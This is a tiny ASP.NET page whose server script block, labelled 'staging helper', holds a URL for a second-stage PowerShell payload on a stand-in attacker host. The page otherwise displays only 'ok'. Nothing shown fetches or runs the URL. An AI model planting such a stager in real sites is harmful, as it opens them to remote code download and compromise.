<%@ Page Language="C#" %>
<script runat="server">
// staging helper
string src = "http://dl.evil-c2.example/stage2.ps1";
</script>
<html><body>ok</body></html>
